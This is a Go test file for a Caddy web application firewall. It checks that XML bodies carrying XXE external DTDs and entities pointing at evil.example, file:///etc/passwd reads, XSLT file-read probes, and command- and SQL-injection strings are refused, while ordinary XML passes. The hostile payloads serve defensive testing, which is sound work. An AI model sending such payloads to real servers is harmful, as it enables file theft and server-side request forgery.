package waf

import (
	"context"
	"encoding/xml"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"
)

// TestXMLReachingOut: an XML document type with an external identifier
// (the third fresh-eyes attack's BROKE 10: SSRF and out-of-band XXE
// through an external DTD, no ENTITY in the request) and XSLT probes are
// refused by rules 210160 and 210161, in an XML body and in an uploaded
// text file; documents with the W3C's document types, an internal
// subset, schema locations and ordinary XSLT pass.
func TestXMLReachingOut(t *testing.T) {
	xml := "application/xml"
	svgDTD, svgDTDType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/e.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`)
	svgW3C, svgW3CType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`)
	misses := []probe{
		{name: "external DTD, SYSTEM http", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "http://evil.example/e.dtd"><r>1</r>`},
		{name: "external DTD, PUBLIC", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/e.dtd"><r>1</r>`},
		{name: "external DTD, SYSTEM ftp", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "ftp://evil.example/e.dtd"><r>1</r>`},
		{name: "external DTD, SYSTEM jar", method: "POST", path: "/api", contentType: "text/xml", body: `<!DOCTYPE r SYSTEM "jar:http://evil.example/a.jar!/e.dtd"><r>1</r>`},
		{name: "external DTD in an uploaded SVG", method: "POST", path: "/upload", contentType: svgDTDType, body: svgDTD},
		{name: "a command after a line break in mixed content (attack 42's white space, kept there)", method: "POST", path: "/api", contentType: xml, body: "<Ping><host>127.0.0.1<x/>\n<x/>id</host></Ping>"},
		{name: "XSLT system-property probe", method: "POST", path: "/transform", contentType: xml, body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:template></xsl:stylesheet>`},
	}
	catches := []probe{
		{name: "external DTD posing as the W3C's (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/e.dtd"><r>1</r>`},
		{name: "XSLT unparsed-text file read (the CRS's)", method: "POST", path: "/transform", contentType: xml, body: `<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template></xsl:stylesheet>`},
		{name: "SYSTEM file:// (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "file:///etc/passwd"><r>1</r>`},
		{name: "an external ENTITY (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>`},
	}
	benign := []probe{
		{name: "an SVG upload with the W3C's document type", method: "POST", path: "/upload", contentType: svgW3CType, body: svgW3C},
		{name: "an internal subset without entities", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>Remember the milk</note>`},
		{name: "a Maven POM with a schema location", method: "POST", path: "/api/poms", contentType: xml, body: `<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><artifactId>app</artifactId></project>`},
	}
	// pretty-printed documents whose joined texts held a child's text
	// after a line break, which the CRS's 932235 read as a command at a
	// line's start (attack 42: crs_only refused them too)
	for _, doc := range []string{
		"<?xml version=\"1.0\"?>\n<rss version=\"2.0\">\n<channel>\n<item>\n<title>News</title>\n<description>Join us for the launch.</description>\n</item>\n</channel>\n</rss>",
		"<rss version=\"2.0\">\n  <channel>\n    <title>Jobs</title>\n    <item>\n      <title>Hiring</title>\n      <description>Join us.</description>\n    </item>\n  </channel>\n</rss>",
		"<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n <soap:Body>\n  <CreateTicket>\n   <Subject>Crash</Subject>\n   <Body>Find attached the error log.</Body>\n  </CreateTicket>\n </soap:Body>\n</soap:Envelope>",
		"<feed xmlns=\"http://www.w3.org/2005/Atom\">\n<entry>\n<title>v2</title>\n<summary>Install the update from the store.</summary>\n</entry>\n</feed>",
		"<project>\n  <artifactId>csvtool</artifactId>\n  <description>Sort and filter large CSV files.</description>\n</project>",
		"<kml>\n<Placemark>\n<name>Shop</name>\n<description>Look for the red door.</description>\n</Placemark>\n</kml>",
		"<gpx>\n<wpt lat=\"1\" lon=\"2\">\n<name>Camp</name>\n<desc>Sleep here on day two.</desc>\n</wpt>\n</gpx>",
		"<methodCall>\n<methodName>notes.add</methodName>\n<params>\n<param>\n<value><string>Make a backup first</string></value>\n</param>\n</params>\n</methodCall>",
	} {
		benign = append(benign, probe{name: "pretty-printed " + doc[:20], method: "POST", path: "/api", contentType: "text/xml", body: doc})
	}
	// lists of words that name commands, one per element (a reading of
	// the joined text with its line breaks refused <c>user</c>\n<c>id</c>:
	// not made, see docs/waf.md; not here: lists with env or uname, which
	// the CRS alone refuses with a numeric Host)
	for _, doc := range []string{"<tags>\n  <t>id</t>\n  <t>name</t>\n  <t>created</t>\n</tags>",
		"<steps>\n<s>Install the app</s>\n<s>Sleep well</s>\n<s>ping me</s>\n</steps>", "<cols>\n <c>user</c>\n <c>id</c>\n</cols>"} {
		benign = append(benign, probe{name: "a list " + doc[:12], method: "POST", path: "/api", contentType: "application/xml", body: doc})
	}
	// not here, as the CRS alone refuses them (false positives of its
	// own): an XHTML document with the W3C's document type posted as an
	// XML body, an XSLT stylesheet, and text that names <!DOCTYPE html>
	runBeyondTheCRS(t, catches, misses, benign)
}

// TestXMLNodesRefusalIsNamed: an XML body of more nodes than
// max_arguments (here one element with 1,700 attributes) is refused with
// 400 and logged as such, not as a multipart body (the third fresh-eyes
// attack's log-message finding).
func TestXMLNodesRefusalIsNamed(t *testing.T) {
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{}
	if err := w.Provision(ctx); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = w.Cleanup() }()
	core, logs := observer.New(zap.InfoLevel)
	w.logger = zap.New(core)
	var b strings.Builder
	b.WriteString("<r")
	for i := range 1700 {
		fmt.Fprintf(&b, ` a%d="x"`, i)
	}
	b.WriteString("/>")
	req := httptest.NewRequest("POST", "/api", strings.NewReader(b.String()))
	req.Header.Set("Content-Type", "application/xml")
	rec := httptest.NewRecorder()
	_ = w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil }))
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("an element with 1,700 attributes: %d, want 400", rec.Code)
	}
	if all := logs.All(); len(all) != 1 || !strings.Contains(all[0].Message, "XML body") {
		t.Errorf("logged %+v, want one line naming an XML body", all)
	}
}

// TestXMLElementText: the gateway's rules read an XML element's text
// (XML:/*), as the CRS's do: a forty-first fresh-eyes attack (attack 41)
// passed 227 of 599 of the payloads they refuse in the query as
// <r><q>payload</q></r>, where an element of one text node was read by
// the CRS alone (the gateway read the joined text of elements of several
// only). Each payload of the tables below is refused in an element's
// text and in a SOAP body, and the near-misses beside them pass, as they
// do with crs_only.
func TestXMLElementText(t *testing.T) {
	tableOnly(t)
	var attacks, benign []string
	for _, l := range [][]string{copyProgramAttacks, argumentAttacks, formatAttacks, secretPathAttacks, clickHouseAttacks, numberProbeAttacks,
		spelAttacks, rubyMarshalAttacks, nfkcAttacks} {
		attacks = append(attacks, l...)
	}
	attacks = append(attacks, "admin' -- -", "127.0.0.1; id", `x;$'\x69\x64'`, ";a=i;b=d;$a$b", "1 or true")
	for _, l := range [][]string{execBenign, formatBenign, secretPathBenign, clickHouseBenign, numberProbeBenign, gadgetBenign, nfkcBenign} {
		benign = append(benign, l...)
	}
	esc := func(s string) string {
		var b strings.Builder
		_ = xml.EscapeText(&b, []byte(s))
		return b.String()
	}
	body := func(s string, soap bool) string {
		if soap {
			return `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Ping><host>` + esc(s) + `</host></Ping></soap:Body></soap:Envelope>`
		}
		return "<r><q>" + esc(s) + "</q></r>"
	}
	type req struct {
		p    probe
		soap bool
	}
	var atk, ben []req
	for _, s := range attacks {
		for _, soap := range []bool{false, true} {
			atk = append(atk, req{probe{name: fmt.Sprintf("XML %q", s), method: "POST", path: "/api", contentType: "application/xml", body: body(s, soap)}, soap})
		}
	}
	for _, s := range benign {
		ben = append(ben, req{probe{name: fmt.Sprintf("XML %q", s), method: "POST", path: "/api", contentType: "application/xml", body: body(s, false)}, false})
	}
	// the CRS alone first (one Caddy at a time), then the additions
	crsBase, _ := startCaddy(t, "waf {\n\t\tcrs_only\n\t}")
	crsPassed, fp, crsFP := 0, 0, 0
	crsOK := make([]bool, len(ben))
	for _, r := range atk {
		if code, _ := send(t, crsBase, r.p); code == http.StatusOK {
			crsPassed++
		}
	}
	for i, r := range ben {
		code, _ := send(t, crsBase, r.p)
		crsOK[i] = code == http.StatusOK
	}
	_ = caddy.Stop()
	base, hits := startCaddy(t, "waf")
	for _, r := range atk {
		before := *hits
		if code, _ := send(t, base, r.p); code != http.StatusForbidden && code != http.StatusBadRequest {
			t.Errorf("%s (SOAP %v): %d, want it refused", r.p.name, r.soap, code)
		} else if *hits != before {
			t.Errorf("%s: the upstream got it", r.p.name)
		}
	}
	for i, r := range ben {
		if !crsOK[i] {
			crsFP++
			continue // the CRS's own false positive
		}
		if code, b := send(t, base, r.p); code != http.StatusOK {
			fp++
			t.Errorf("%s: %d %s, want 200 (crs_only passes it)", r.p.name, code, b)
		}
	}
	t.Logf("XML element text: %d attack requests, %d passed by crs_only, all refused; benign %d, %d refused by the additions, %d by the CRS alone (not counted)",
		2*len(attacks), crsPassed, len(benign), fp, crsFP)
}
